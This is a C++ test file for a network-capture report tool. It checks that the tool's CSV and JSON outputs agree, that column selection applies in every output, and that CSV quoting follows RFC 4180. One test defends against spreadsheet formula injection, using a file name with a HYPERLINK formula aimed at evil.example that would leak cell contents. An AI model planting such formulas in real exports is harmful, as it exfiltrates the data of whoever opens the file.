// Every output comes from one declaration of each section: for every section of the four
// samples (the office LAN's made with -x, and the web session's both ways), the CSV that --csv
// writes holds the rows and fields of the JSON document, under the same keys, and --csv list names
// exactly the document's sections. Columns chosen with --columns are chosen in every output alike.
// A field is quoted as RFC 4180 has it, and a text never starts what a spreadsheet reads as a
// formula.
#include <gtest/gtest.h>
#include <sqlite3.h>

#include <charconv>
#include <sstream>
#include <stdexcept>

#include "report/cell_text.h"
#include "report/tally_store.h"
#include "report_test_kit.h"

using namespace testkit;
using namespace reportkit;

namespace {

using Rows = std::vector<std::vector<std::string>>;

// The records of a CSV text as RFC 4180 reads them: quoted fields may hold commas and doubled
// quotes.
Rows parseCsv(const std::string& text) {
    Rows rows(1, std::vector<std::string>(1));
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                rows.back().back() += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                rows.back().back() += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().emplace_back();
        } else if (c == '\n') {
            rows.emplace_back(1);
        } else {
            rows.back().back() += c;
        }
    }
    rows.pop_back();  // after the last line end
    return rows;
}

// Each field that is a number, written as its value's shortest spelling: CSV writes the digits
// that the report computed ("4.489800"), JSON the number ("4.4898").
Rows byValue(Rows rows) {
    for (std::vector<std::string>& row : rows) {
        for (std::string& field : row) {
            double value = 0;
            const auto [end, error] =
                std::from_chars(field.data(), field.data() + field.size(), value);
            char shortest[32];
            if (!field.empty() && error == std::errc() && end == field.data() + field.size()) {
                field.assign(shortest, std::to_chars(shortest, shortest + 32, value).ptr);
            }
        }
    }
    return rows;
}

// The rows of the JSON member at `path` (a list, or one object), each field as CSV writes it:
// a number as the document spells it, a text unquoted, null empty, a list's items joined by
// blanks. The first row holds the keys.
Rows jsonRows(const std::string& json, const std::string& path) {
    const std::string rowsOf =
        jsonQuery(json, "SELECT json_type(?1, '" + path + "')").front() == "object"
            ? "json_each(json_array(json_extract(?1, '" + path + "')))"
            : "json_each(?1, '" + path + "')";
    Rows rows;
    std::string last;
    for (const std::string& line : jsonQuery(
             json, "SELECT r.id, f.key, CASE f.type WHEN 'null' THEN '' WHEN 'text' THEN f.value "
                   "WHEN 'array' THEN (SELECT group_concat(i.value, ' ') FROM json_each(f.value) "
                   "AS i) ELSE r.value -> ('$.' || f.key) END FROM " +
                       rowsOf + " AS r, json_each(r.value) AS f ORDER BY r.id, f.id")) {
        const std::size_t first = line.find('|'), second = line.find('|', first + 1);
        if (line.substr(0, first) != last) {
            last = line.substr(0, first);
            if (rows.empty()) {
                rows.emplace_back();
            }
            rows.emplace_back();
        }
        if (rows.size() == 2) {
            rows.front().push_back(line.substr(first + 1, second - first - 1));
        }
        rows.back().push_back(line.substr(second + 1));
    }
    return rows;
}

}  // namespace

TEST(ReportOutputsAgree, CsvHoldsTheJsonRowsOfEverySection) {
    const std::vector<std::string> ids = sectionIds();
    // The web session once more with -x, which learns the names of its servers.
    for (const std::string sample :
         {"web-session", "port-scan", "rare-protocols", "office-lan", "web-session-x"}) {
        ScratchDir dir;
        const std::string db = dir.path(sample + ".db"),
                          trace = std::string(TIDEWRACK_SAMPLES_DIR) + "/" +
                                  sample.substr(0, sample.find("-x")) + ".pcap";
        if (sample == "office-lan" || sample == "web-session-x") {
            makeExtendedDatabase(trace, db);
        } else {
            makeDatabase(trace, db);
        }
        const Outcome json = runReport({"--json", "--top", "3", db});
        ASSERT_EQ(json.status, 0) << json.err;
        EXPECT_EQ(jsonQuery(json.out, "SELECT key FROM json_each(?1) WHERE key NOT IN "
                                      "('generator', 'top')"),
                  ids);
        for (const std::string& id : ids) {
            const Outcome csv = runReport({"--csv", id, "--top", "3", db});
            ASSERT_EQ(csv.status, 0) << csv.err;
            Rows rows = parseCsv(csv.out), expected = jsonRows(json.out, "$." + id);
            if (id == "timeline") {
                expected = jsonRows(json.out, "$.timeline.buckets");
            }
            ASSERT_FALSE(rows.empty()) << sample << " " << id;
            if (expected.empty()) {
                rows.erase(rows.begin());  // the heading of no rows
            }
            EXPECT_EQ(byValue(rows), byValue(expected)) << sample << " " << id << ":\n" << csv.out;
        }
    }
}

// Columns chosen with --columns are those of every output, in the order chosen: the JSON rows'
// members, the CSV's fields, the text's and the page's column titles; the other sections keep
// theirs, and a chosen column is never left out for width.
TEST(ReportOutputsAgree, ChosenColumnsAreThoseOfEveryOutputInTheirOrder) {
    ScratchDir dir;
    const std::string db = dir.path("office.db");
    makeExtendedDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/office-lan.pcap", db);
    const std::vector<std::string> choice = {"--columns", "conversations=frames_a_to_b,a,state",
                                             "-C", "endpoints=address,first_utc", db};
    auto with = [&](std::vector<std::string> args) {
        args.insert(args.end(), choice.begin(), choice.end());
        const Outcome run = runReport(args, {"COLUMNS=60"});
        EXPECT_EQ(run.status, 0) << run.err;
        return run.out;
    };
    const std::string json = with({"--json", "-o", dir.path("page.html")});
    const std::string csv = with({"--csv", "conversations"}), text = with({});
    const Rows rows = jsonRows(json, "$.conversations");
    ASSERT_EQ(rows.size(), 9u);
    EXPECT_EQ(rows.front(), (std::vector<std::string>{"frames_a_to_b", "a", "state"}));
    EXPECT_EQ(parseCsv(csv), rows);
    EXPECT_EQ(jsonRows(json, "$.endpoints").front(),
              (std::vector<std::string>{"address", "first_utc"}));
    EXPECT_EQ(jsonRows(json, "$.protocols").front().size(), 5u);
    EXPECT_NE(text.find("\n  frames a>b  a                        state\n"
                        "           6  10.10.0.23:50100         SF\n"),
              std::string::npos)
        << text;
    EXPECT_NE(text.find("\n  address           first (UTC)\n"), std::string::npos) << text;
    EXPECT_NE(fileBytes(dir.path("page.html"))
                  .find("<thead><tr><th class=\"n\">frames a&gt;b</th><th>a</th><th "
                        "class=\"w\">state</th>"),
              std::string::npos);
}

// A field with a comma or a quote is quoted, its quotes doubled; one with neither is not.
TEST(ReportOutputsAgree, CsvQuotesFieldsAsRfc4180Has) {
    ScratchDir dir;
    const std::string db = dir.path("a \"quoted\", named.db");
    makeDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/port-scan.pcap", db);
    const Outcome csv = runReport({"--csv", "databases", db});
    EXPECT_EQ(csv.out,
              "path,mode,frames,bytes,first,last,duration,first_utc,last_utc,record,read,"
              "time_goes_back,read_error\n\"" +
                  dir.path("a \"\"quoted\"\", named.db") +
                  "\",1,44,2376,13:00:00.000800,13:00:00.018600,0.017800,,,classic,frames,,\n");
}

// A text that a spreadsheet would take for a formula (its first character =, +, - or @) is
// written after a single quote, as OWASP advises for CSV exports: a database's name, a protocol
// name stored in it, the summary's filter. Numbers stay numbers, negative ones too.
TEST(ReportOutputsAgree, CsvTextsNeverStartAFormula) {
    ScratchDir dir;
    const std::string name = "=HYPERLINK(\"evil.example?\"&A1,\"x\").db";
    makeDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/web-session.pcap", dir.path(name));
    makeDatabase(std::string(TIDEWRACK_SAMPLES_DIR) + "/port-scan.pcap", dir.path("scan.db"));
    sqlite3* db = nullptr;
    sqlite3_open(dir.path(name).c_str(), &db);
    sqlite3_exec(db, "UPDATE frames SET ipproto = '@SUM(1+1)' WHERE ipproto = 'ICMP'", nullptr,
                 nullptr, nullptr);
    sqlite3_close(db);
    const auto csv = [&](const std::vector<std::string>& args) {
        const Outcome run = runReport(args, {}, dir.path(""));
        EXPECT_EQ(run.status, 0) << run.err;
        return parseCsv(run.out);
    };
    EXPECT_EQ(csv({"--csv", "databases", name})[1][0], "'" + name);
    EXPECT_EQ(csv({"--csv", "protocols", name}).back()[0], "'@SUM(1+1)");
    const Rows summary = csv({"--csv", "summary", "--host", "192.168.1.23", name});
    EXPECT_EQ(summary[1][8], "'@SUM(1+1) TCP UDP");
    EXPECT_EQ(summary[1][17], "'--host 192.168.1.23");
    EXPECT_EQ(
        csv({"--csv", "endpoint_changes", "--baseline", name, "scan.db"})[3],
        (std::vector<std::string>{"93.184.216.34", "6798", "0", "12112.789", "0.000", "-27", ""}));
}

// A section's statement is checked once, when it is prepared, to return its columns' values in
// their order and under their names (an end's port, a share's whole after its key): a value
// moved, missing, added or unnamed is refused at once, never shown under another column.
TEST(ReportOutputsAgree, AStatementReturnsItsColumnsValuesInTheirOrder) {
    using namespace tidewrack::report;
    TallyStore store;
    constexpr Column columns[] = {
        {"a", "a", Kind::End}, {"bytes", "bytes", Kind::Bytes}, {"share", "share", Kind::Share}};
    EXPECT_NO_THROW(checkValueNames(
        store.prepare("SELECT 1 AS a, 2 AS a_port, 3 AS bytes, 4 AS share, 5 AS share_whole"),
        columns, "test"));
    for (const char* wrong :
         {"SELECT 1 AS a, 2 AS a_port, 4 AS share, 5 AS share_whole, 3 AS bytes",
          "SELECT 1 AS a, 3 AS bytes, 4 AS share, 5 AS share_whole",
          "SELECT 1 AS a, 2 AS a_port, 3 AS bytes, 4 AS share, 5 AS share_whole, 6 AS more",
          "SELECT 1, 2, 3, 4, 5"}) {
        EXPECT_THROW(checkValueNames(store.prepare(wrong), columns, "test"), std::logic_error)
            << wrong;
    }
}
